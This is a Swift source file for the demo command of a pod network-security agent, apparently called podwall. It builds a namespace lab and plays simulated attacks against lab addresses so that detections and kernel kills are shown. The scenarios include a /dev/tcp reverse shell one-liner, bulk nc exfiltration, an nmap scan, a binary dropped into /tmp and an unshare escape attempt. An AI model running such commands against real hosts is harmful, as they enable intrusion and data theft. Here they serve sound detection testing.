import ArgumentParser
import Foundation
import PodwallCapture
import PodwallCommandLine
import PodwallCore
import PodwallKernel
import PodwallLab

struct Demo: AsyncParsableCommand {
    static let configuration = CommandConfiguration(
        abstract: "Build a lab of pods in network namespaces and show podwall live.",
        discussion: """
            Creates a node namespace with a bridge and pods (namespaces joined by veths, \
            198.18.0.0/24 and fd00:198:18::/64, in a cgroup of their own), an "internet" \
            namespace behind the node (198.19.0.2 and .3), starts `podwall run` there and plays \
            scenarios with real tools where installed: normal HTTP, a bulk push to the internet, \
            a non-HTTP tunnel to port 80, a connection to a blocklisted address, a port scan, in a \
            runc container (where runc is installed) a reverse shell, a dropped program run from \
            /tmp and an escape attempt, and a pod joining late. It shows each step's alerts and responses as they come, then a \
            summary, the kernel's flow table and counters. Everything it creates is removed at \
            the end, also on Ctrl-C. Needs root.
            """
    )

    func validate() throws {
        guard geteuid() == 0 else { throw ValidationError("the demo builds network namespaces and loads BPF: run it as root") }
    }

    func run() async throws {
        LibbpfLog.capture(echo: false)
        var console = DemoConsole()
        console.step("Building the lab: 3 pods behind a bridge in their node namespace, and an internet")
        let lab = try Lab(pods: 3)
        let interrupt = Self.tearDownOnInterrupt(lab)
        defer { interrupt.forEach { $0.cancel() }; lab.teardown() }
        try lab.addInternet()
        let (frontend, web, worker) = (lab.pods[0], lab.pods[1], lab.pods[2])
        for (pod, role) in [(frontend, "frontend"), (web, "web server on :80"), (worker, "worker")] {
            console.detail("\(pod.name)  \(pod.ipv4)  \(role)  (host side: \(pod.hostInterface))")
        }
        console.detail("internet  \(Lab.internetAddress), \(Lab.internetAddress2)")

        let agent = LabAgent(lab: lab, binary: SiblingExecutable.path("podwall"))
        console.step(
            "Starting the agent: podwall run --cgroup \(lab.cgroupPath ?? "-") --cluster-cidr 198.18.0.0/24 (log: \(agent.logFile))")
        do { try agent.start() } catch { throw ValidationError.failure("\(error)") }
        console.detail("attached to \(lab.pods.count) pod interfaces; alerts go to \(agent.alertsFile)")

        var results: [DemoResult] = []
        func play(_ name: String, expecting expected: String?, _ body: () throws -> Void) rethrows {
            console.step(name)
            let before = demoAlerts(agent).count
            try body()
            // Wait for the expected alert, or give a quiet scenario time to prove quiet.
            _ = Self.waitFor(seconds: expected == nil ? 1.5 : 5) {
                expected != nil && demoAlerts(agent).dropFirst(before).contains { $0.kind == expected }
            }
            let fresh = demoAlerts(agent).dropFirst(before)
            for alert in fresh { console.detail("alert: \(alert.summary)") }
            if fresh.isEmpty { console.detail("no alert") }
            console.detail("live: " + ((try? FlowView(lab: lab).liveLine(alerts: demoAlerts(agent).count)) ?? "-"))
            results.append(DemoResult(scenario: name, expected: expected ?? "none", alerts: Array(fresh)))
        }

        try lab.spawnInPod(
            web, ["sh", "-c", "while true; do printf 'HTTP/1.1 200 OK\\r\\nContent-Length: 6\\r\\n\\r\\nhello\\n' | nc -l -p 80 -q 1; done"]
        )
        try lab.spawn(inNamespace: lab.internetNamespace, ["sh", "-c", "nc -lk -p 9000 > /dev/null"])
        try lab.spawn(inNamespace: lab.internetNamespace, ["sh", "-c", "while true; do nc -l -p 80 > /dev/null; done"])
        usleep(300_000)

        try play("\(frontend.name) fetches a page from \(web.name) with curl", expecting: nil) {
            let page = try lab.inPod(frontend, ["curl", "-s", "--max-time", "3", "http://\(web.ipv4)/"], check: false)
            console.detail("curl got: \(page.output.trimmingCharacters(in: .whitespacesAndNewlines))")
        }
        try play("\(worker.name) sends a trickle to the internet, then pushes 200 MB", expecting: "exfiltration") {
            for _ in 0..<12 {
                try lab.inPod(worker, ["sh", "-c", "head -c 2000 /dev/zero | nc -q 0 -w 1 \(Lab.internetAddress) 9000"], check: false)
                usleep(500_000)
            }
            try lab.inPod(worker, ["sh", "-c", "head -c 200000000 /dev/zero | nc -q 0 -w 5 \(Lab.internetAddress) 9000"], check: false)
        }
        try play("\(frontend.name) opens an SSH-style tunnel to port 80 on the internet", expecting: "protocol_mismatch") {
            try lab.inPod(
                frontend, ["sh", "-c", "printf 'SSH-2.0-OpenSSH_9.2\\r\\n' | nc -q 1 -w 2 \(Lab.internetAddress2) 80"], check: false)
        }
        try play("\(worker.name) (in the pods' cgroup) connects to the blocked \(Lab.internetAddress)", expecting: "blocklist_hit") {
            let attempt = try lab.inPodCgroup(worker, ["nc", "-v", "-z", "-w", "2", Lab.internetAddress, "443"], check: false)
            console.detail("nc says: \(attempt.error.trimmingCharacters(in: .whitespacesAndNewlines))")
        }
        if Shell.isInstalled("nmap") {
            try play("\(worker.name) scans \(web.name) with nmap, ports 1-1000", expecting: "port_scan") {
                try lab.inPod(
                    worker, ["nmap", "-sT", "-Pn", "-n", "-p", "1-1000", "-T4", "--max-retries", "0", "--host-timeout", "6s", web.ipv4],
                    check: false)
            }
            console.detail(try agent.podwall(["quarantine", "list"]).output.trimmingCharacters(in: .whitespacesAndNewlines))
        }

        if Shell.isInstalled("runc") {
            let shop = try lab.runContainer(in: web, name: "shop", command: ["sleep", "600"])
            // The listener sits in pod1: both internet addresses are blocked by now.
            try lab.spawnInPod(frontend, ["sh", "-c", "nc -lk -p 9001 > /dev/null"])
            usleep(200_000)
            try play(
                "A reverse shell in \(web.name)'s container (runc) to a listener in \(frontend.name): bash >& /dev/tcp/\(frontend.ipv4)/9001 0>&1",
                expecting: "reverse_shell"
            ) {
                // The shell's first command would leave a file behind.
                try lab.exec(
                    in: shop, ["bash", "-c", "bash -c 'touch /shared/the-shell-ran' >& /dev/tcp/\(frontend.ipv4)/9001 0>&1"],
                    check: false)
                let ran = FileManager.default.fileExists(atPath: shop.sharedDirectory + "/the-shell-ran")
                console.detail(ran ? "the shell ran a command" : "killed in the kernel before the shell read a command")
            }
            try play(
                "A dropped program in \(web.name)'s container: cp /usr/bin/sh /tmp/x && /tmp/x -c 'touch ...'", expecting: "drop_execute"
            ) {
                try lab.exec(in: shop, ["sh", "-c", "cp /usr/bin/sh /tmp/x && /tmp/x -c 'touch /shared/the-drop-ran'"], check: false)
                let ran = FileManager.default.fileExists(atPath: shop.sharedDirectory + "/the-drop-ran")
                console.detail(ran ? "the dropped program ran" : "killed in the kernel at exec, before its first instruction")
            }
            try play("An escape attempt from \(web.name)'s container: unshare -Urm (a user and mount namespace)", expecting: "breakout") {
                let result = try lab.exec(in: shop, ["unshare", "-Urm", "true"], check: false)
                console.detail(result.status == 137 ? "killed at the syscall" : "exit status \(result.status)")
            }
            console.detail(try agent.podwall(["quarantine", "list"]).output.trimmingCharacters(in: .whitespacesAndNewlines))
        }

        console.step("A new pod joins: the agent attaches to its veth as it appears")
        let start = Date()
        let late = try lab.addPod()
        let attached = Self.waitFor(seconds: 5) { agent.log.contains("interface=\(late.hostInterface)") }
        console.detail(
            attached
                ? "attached to \(late.hostInterface) \(Int(Date().timeIntervalSince(start) * 1000)) ms after it was created"
                : "not attached within 5 s")

        console.step("Summary")
        let captures = CaptureStore(directory: agent.captureDirectory)
        print(
            TextTable.render(
                header: ["SCENARIO", "EXPECTED", "ALERT", "LATENCY", "RESPONSE", "PCAP"],
                rows: results.map { $0.row(captures: captures) }))
        console.detail("pcaps stay in \(agent.captureDirectory): open them with wireshark, tshark -r or tcpdump -r")
        console.step("The kernel's flow table (podwall flows), biggest first")
        print(try FlowView(lab: lab).render())
        console.step("Kernel counters (podwall status)")
        print(try FlowView(lab: lab).counters())
        console.step("Removing the lab: namespaces, veths, cgroup, pinned maps and links")
    }

    func demoAlerts(_ agent: LabAgent) -> [DemoAlert] {
        agent.alerts().compactMap(DemoAlert.init)
    }

    static func waitFor(seconds: Double, _ condition: () -> Bool) -> Bool {
        let deadline = Date().addingTimeInterval(seconds)
        while Date() < deadline {
            if condition() { return true }
            usleep(50_000)
        }
        return condition()
    }

    /// Ctrl-C or SIGTERM: remove the lab before exiting.
    static func tearDownOnInterrupt(_ lab: Lab) -> [DispatchSourceSignal] {
        [SIGINT, SIGTERM].map { number in
            signal(number, SIG_IGN)
            let source = DispatchSource.makeSignalSource(signal: number)
            source.setEventHandler {
                FileHandleOutput.standardError("\ninterrupted: removing the lab")
                lab.teardown()
                Foundation.exit(130)
            }
            source.resume()
            return source
        }
    }
}

/// The agent the demo runs in the lab's node namespace.
/// The parts of an alert (JSON) the demo shows.
struct DemoAlert {
    let kind: String
    let source: String
    let latency: Double
    let actions: [String]
    let id: String

    init?(_ json: [String: Any]) {
        guard let kind = json["kind"] as? String, json["is_update"] as? Bool != true else { return nil }
        self.kind = kind
        id = json["id"] as? String ?? ""
        let origin = json["source"] as? [String: Any]
        // A cgroup denial knows the process, not the pod address.
        if let process = origin?["process"] as? [String: Any], let comm = process["comm"] as? String {
            source = "\(comm) (pid \(process["tgid"] as? Int ?? 0))"
        } else {
            let address = origin?["address"] as? String ?? "?"
            source = (origin?["pod_name"] as? String).map { "\(address) (\($0))" } ?? address
        }
        latency = json["detection_latency_ms"] as? Double ?? 0
        actions = (json["actions"] as? [[String: Any]] ?? []).compactMap { action in
            switch action["type"] as? String {
            case "block": "block \(action["remote"] as? String ?? "?")"
            case "quarantine": "quarantine \(action["pod"] as? String ?? "?")"
            case "capture": "capture"
            case "kill": (action["at_exec"] as? Bool == true ? "killed in the kernel" : "killed") + " (pid \(action["pid"] as? Int ?? 0))"
            default: nil
            }
        }
    }

    var summary: String {
        let detected = "\(kind) from \(source), " + String(format: "%.1f", latency) + " ms after the deciding packet"
        return actions.isEmpty ? detected : detected + "; " + actions.joined(separator: ", ")
    }
}

struct DemoResult {
    let scenario: String
    let expected: String
    let alerts: [DemoAlert]

    func row(captures: CaptureStore) -> [String] {
        let alert = alerts.first { $0.kind == expected } ?? alerts.first
        let response = alert?.actions.joined(separator: ", ") ?? ""
        let pcap = alert.flatMap { captures.summary($0.id) }.map { "\($0.file) (\($0.packets) packets)" } ?? "-"
        return [
            scenario, expected, alert?.kind ?? "none", alert.map { String(format: "%.1f ms", $0.latency) } ?? "-",
            response.isEmpty ? "-" : response, pcap
        ]
    }
}

/// Step-by-step output of the demo.
struct DemoConsole {
    private var step = 0
    private let bold = isatty(STDOUT_FILENO) != 0 ? "\u{1b}[1m" : ""
    private let reset = isatty(STDOUT_FILENO) != 0 ? "\u{1b}[0m" : ""

    mutating func step(_ text: String) {
        step += 1
        print("\n\(bold)[\(step)] \(text)\(reset)")
    }

    func detail(_ text: String) {
        print("    \(text)")
    }
}

/// The lab's flows as `podwall flows` shows them, without IPv6 neighbour
/// discovery noise.
struct FlowView {
    let lab: Lab

    func render() throws -> String {
        let names = try NetworkNamespace.run(lab.nodeNamespace) { try LinkWatcher.namesByIndex() }
        let formatter = FlowFormatter(interfaceNames: names, wallClockOffset: MonotonicClock.wallClockOffset())
        let records = try PinnedState(pinRoot: lab.pinRoot).flows().records()
        let transport: Set<IPProtocol> = [.tcp, .udp]
        let flows = records.filter { transport.contains($0.key.proto) }.sorted { total($0) > total($1) }
        let more = flows.count > 20 ? "\n... \(flows.count - 20) more TCP/UDP flows" : ""
        return formatter.table(Array(flows.prefix(20))) + more
    }

    private func total(_ flow: FlowRecord) -> UInt64 {
        flow.fromPod.bytes + flow.toPod.bytes
    }

    /// One line of what the kernel has seen so far, shown after each scenario.
    func liveLine(alerts: Int) throws -> String {
        let state = PinnedState(pinRoot: lab.pinRoot)
        let counters = Dictionary(uniqueKeysWithValues: try state.counters().snapshot().map { ($0.name, $0.value) })
        let flows = try state.flows().count
        return "\(flows) flows in the kernel, \(counters["packets"] ?? 0) packets, "
            + "\(counters["drops_blocklist"] ?? 0) dropped by the blocklist, \(counters["drops_quarantine"] ?? 0) by quarantine, "
            + "\(counters["sock_denied"] ?? 0) connect() denied, \(alerts) alerts"
    }

    func counters() throws -> String {
        TextTable.render(
            header: ["COUNTER", "VALUE"],
            rows: try PinnedState(pinRoot: lab.pinRoot).counters().snapshot().map { [$0.name, String($0.value)] })
    }
}
